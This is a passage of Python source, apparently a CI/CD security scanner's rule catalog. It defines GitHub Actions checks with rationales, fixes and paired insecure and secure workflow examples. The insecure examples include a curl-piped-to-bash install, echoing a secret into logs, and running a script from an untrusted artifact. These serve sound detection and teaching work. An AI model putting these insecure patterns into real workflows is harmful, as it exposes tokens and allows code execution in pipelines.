            "https://docs.github.com/en/actions/writing-workflows/workflow-syntax-for-github-actions#jobsjob_idsecretsinherit",
            ZIZMOR + "#secrets-inherit",
        ),
    ),
    github_check(
        id="pipelines/gha-artipacked",
        title="Persisted checkout credentials uploaded in an artifact",
        severity=Severity.HIGH,
        evaluate=_artipacked,
        rationale="actions/checkout writes the job's token into .git/config unless `persist-credentials: false`."
        " Uploading the whole workspace with upload-artifact older than v4.4 (or with include-hidden-files) ships"
        " that file: anyone who can download the artifact (everyone, on a public repository) gets a token that"
        " is valid while the run lasts, often long enough to push code.",
        fix="Set `persist-credentials: false` on the checkout, upload only the build output directory, and use"
        " actions/upload-artifact v4.4 or later (hidden files excluded).",
        insecure_example="- uses: actions/checkout@v4\n- uses: actions/upload-artifact@v3\n  with:\n    path: .",
        secure_example="- uses: actions/checkout@v4\n  with:\n    persist-credentials: false\n"
        "- uses: actions/upload-artifact@v4\n  with:\n    path: dist/",
        controls=("CIS-SSCS-2.1.7", "CIS-SSCS-2.3.8", "NIST-800-53-SC-28", "SOC2-CC6.1"),
        cwe=("CWE-522", "CWE-200"),
        references=(
            ZIZMOR + "#artipacked",
            "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
            "https://github.com/actions/upload-artifact#uploading-hidden-files",
        ),
    ),
    github_check(
        id="pipelines/gha-self-hosted-runner-untrusted",
        title="Self-hosted runner used by pull request triggers",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        kinds=("workflow",),
        evaluate=_self_hosted_untrusted,
        rationale="On a public repository anyone can open a pull request, and this job then runs their code on"
        " your machine. Self-hosted runners are not wiped between jobs: the attacker can persist on the host,"
        " read later jobs' secrets and reach the internal network. (Medium confidence: private repositories,"
        " and ephemeral runners with fork approval required, are much less exposed.)",
        fix="Use GitHub-hosted runners for pull request workflows, or ephemeral, isolated self-hosted runners"
        " (`--ephemeral`, one VM per job) in a runner group that public repositories cannot use; require"
        " approval for workflows from outside collaborators.",
        insecure_example="on: pull_request\njobs:\n  test:\n    runs-on: [self-hosted, linux]",
        secure_example="on: pull_request\njobs:\n  test:\n    runs-on: ubuntu-latest",
        controls=("CIS-SSCS-2.2.1", "CIS-SSCS-2.2.3", "SLSA-L3", "NIST-800-53-SC-39", "SOC2-CC6.6"),
        cwe=("CWE-668",),
        references=(
            "https://docs.github.com/en/actions/hosting-your-own-runners/managing-self-hosted-runners/about-self-hosted-runners#self-hosted-runner-security",
            ZIZMOR + "#self-hosted-runner",
        ),
    ),
    github_check(
        id="pipelines/gha-insecure-commands",
        title="Deprecated set-env and add-path workflow commands re-enabled",
        severity=Severity.HIGH,
        evaluate=_insecure_commands,
        rationale="ACTIONS_ALLOW_UNSECURE_COMMANDS brings back `::set-env::` and `::add-path::`, disabled because"
        " any text a step prints (a test name, a log line from a dependency, an issue title) could set PATH or"
        " LD_PRELOAD for the following steps and run code (CVE-2020-15228).",
        fix="Remove the variable and write to the $GITHUB_ENV and $GITHUB_PATH files instead"
        ' (`echo "NAME=value" >> "$GITHUB_ENV"`).',
        insecure_example="env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true",
        secure_example='- run: echo "$HOME/.local/bin" >> "$GITHUB_PATH"',
        controls=("CIS-SSCS-2.3.6", "NIST-800-53-SI-10", "NIST-800-53-CM-7", "SOC2-CC8.1"),
        cwe=("CWE-77",),
        references=(
            "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",
            "https://github.com/advisories/GHSA-mfwh-5m23-j46w",
            ZIZMOR + "#insecure-commands",
        ),
    ),
    github_check(
        id="pipelines/gha-cache-poisoning",
        title="Cache written by a workflow that outsiders can trigger",
        severity=Severity.MEDIUM,
        evaluate=_cache_poisoning,
        rationale="pull_request_target, workflow_run and issue_comment run on the default branch, so the caches"
        " they save are restored by every branch, release builds included. If any step of such a run executes"
        " attacker-influenced code, it can plant a poisoned dependency cache that a later privileged build"
        " restores and runs.",
        fix="Do not cache in workflows triggered by untrusted events (`cache: ''`, no actions/cache), or only"
        " restore (actions/cache/restore) and save caches from trusted push builds.",
        insecure_example="on: pull_request_target\n...\n- uses: actions/setup-node@v4\n  with:\n    cache: npm",
        secure_example="on: pull_request_target\n...\n- uses: actions/setup-node@v4\n  with:\n    node-version: 20",
        controls=("CIS-SSCS-2.4.3", "CIS-SSCS-2.2.1", "NIST-800-53-SI-7", "SOC2-CC8.1"),
        cwe=("CWE-349",),
        references=(
            ZIZMOR + "#cache-poisoning",
            "https://docs.github.com/en/actions/writing-workflows/choosing-what-your-workflow-does/caching-dependencies-to-speed-up-workflows#restrictions-for-accessing-a-cache",
            "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",
        ),
    ),
    github_check(
        id="pipelines/gha-workflow-run-artifact-exec",
        title="workflow_run job runs code from a downloaded artifact",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        kinds=("workflow",),
        evaluate=_artifact_execution,
        rationale="A workflow_run workflow has secrets and a writable token, but the artifacts it downloads from"
        " the triggering run were produced by a pull request's code: a fork controls their content. Executing a"
        " script from them, or building in the directory they were unpacked into (which may overwrite your own"
        " files), runs the attacker's code with those privileges.",
        fix="Treat artifacts as untrusted data: unpack them into a dedicated directory, validate what you read"
        " (a PR number must be a number), and never execute or build from it.",
        insecure_example="on: workflow_run\n...\n- uses: actions/download-artifact@v4\n  with:\n"
        "    run-id: ${{ github.event.workflow_run.id }}\n    path: pr\n- run: bash pr/deploy.sh",
        secure_example="- uses: actions/download-artifact@v4\n  with:\n"
        "    run-id: ${{ github.event.workflow_run.id }}\n    path: pr\n"
        "- run: |\n    nr=$(cat pr/number)\n    [[ $nr =~ ^[0-9]+$ ]]",
        controls=("CIS-SSCS-2.3.2", "CIS-SSCS-2.4.3", "NIST-800-53-SI-7", "SOC2-CC8.1"),
        cwe=("CWE-829", "CWE-494"),
        references=(PWN_REQUESTS, ZIZMOR + "#dangerous-triggers"),
    ),
    github_check(
        id="pipelines/gha-curl-pipe-shell",
        title="Script downloaded and piped straight into a shell",
        severity=Severity.MEDIUM,
        evaluate=_curl_pipe_shell,
        rationale="Whatever the server returns runs with the job's token and secrets, unverified: a compromised"
        " host, a hijacked domain or a modified install script (the Codecov bash uploader, 2021) becomes code"
        " execution in your pipeline, and the build is no longer reproducible.",
        fix="Use a pinned action or package, or download to a file, check it against a published checksum or"
        " signature, then run it.",
        insecure_example="- run: curl -sSL https://example.com/install.sh | bash",
        secure_example="- run: |\n    curl -sSLo install.sh https://example.com/v1.2.3/install.sh\n"
        '    echo "<sha256>  install.sh" | sha256sum -c -\n    bash install.sh',
        controls=("CIS-SSCS-2.4.2", "CIS-SSCS-2.4.3", "SLSA-L3", "NIST-800-53-SI-7", "SOC2-CC8.1"),
        cwe=("CWE-494",),
        references=(HARDENING,),
    ),
    github_check(
        id="pipelines/gha-secret-echo",
        title="Secret printed to the job log",
        severity=Severity.HIGH,
        evaluate=_secret_echo,
        rationale="GitHub masks a secret's exact value in logs, but not structured secrets (JSON, multi-line keys"
        " print line by line), not values a later command transforms, and not the log's readers on a public"
        " repository once masking fails. Printing a secret is never needed and is a common way they leak.",
        fix="Do not print secrets. Pass them through `env:` to the command that needs them, on stdin where it"
        ' accepts that (`echo "$TOKEN" | docker login --password-stdin`).',
        insecure_example="- run: echo ${{ secrets.DEPLOY_KEY }}",
        secure_example="- env:\n    TOKEN: ${{ secrets.TOKEN }}\n"
        '  run: echo "$TOKEN" | docker login -u bot --password-stdin',
        controls=("CIS-SSCS-2.3.8", "NIST-800-53-SC-28", "NIST-800-53-AU-9", "SOC2-CC6.1"),
        cwe=("CWE-532",),
        references=(SECRETS_DOCS, ZIZMOR + "#unredacted-secrets"),
    ),
    github_check(
        id="pipelines/gha-pull-request-target-secret-in-run",
        title="Secret expanded into a script of a pull_request_target workflow",
        severity=Severity.MEDIUM,
        confidence=Confidence.MEDIUM,
        evaluate=_pull_request_target_secrets,
        rationale="pull_request_target runs for fork pull requests with the repository's secrets. `${{ secrets.X"
        " }}` is pasted into the script text, which is written to the runner's disk; if the job also runs"
        " anything the pull request controls (or an injection), the secret is one `cat` away. Scoping the secret"
        " to the one command that needs it limits that.",
        fix="Pass the secret through `env:` on the single step that needs it, and keep that step free of"
        " pull-request-controlled input; better, move secret-using work to a trusted trigger.",
        insecure_example="on: pull_request_target\n...\n- run: ./notify --token ${{ secrets.BOT_TOKEN }}",
        secure_example="on: pull_request_target\n...\n- env:\n    BOT_TOKEN: ${{ secrets.BOT_TOKEN }}\n"
        '  run: ./notify --token "$BOT_TOKEN"',
        controls=("CIS-SSCS-2.1.7", "NIST-800-53-AC-6", "SOC2-CC6.1"),
        cwe=("CWE-200",),
        references=(SECRETS_DOCS, PWN_REQUESTS),
    ),
    github_check(
        id="pipelines/gha-hardcoded-credential",
        title="Credential written in clear in a workflow",
        severity=Severity.HIGH,
        evaluate=_hardcoded_credential,
        rationale="The workflow file is readable by everyone who can read the repository (everyone, on a public"
        " one) and stays in git history after it is removed; the credential is not masked in logs either.",
        fix="Revoke the credential, store it as an encrypted secret and reference it: `${{ secrets.NAME }}`."
        " For cloud access prefer OIDC (`id-token: write`) over long-lived keys.",
        insecure_example="env:\n  NPM_TOKEN: example-8f2b0c6e4d0a4a57",
        secure_example="env:\n  NPM_TOKEN: ${{ secrets.NPM_TOKEN }}",
        controls=("CIS-SSCS-2.3.8", "CIS-SSCS-1.5.1", "NIST-800-53-IA-5", "SOC2-CC6.1"),
        cwe=("CWE-798",),
        references=(SECRETS_DOCS, ZIZMOR + "#hardcoded-container-credentials"),
    ),
)
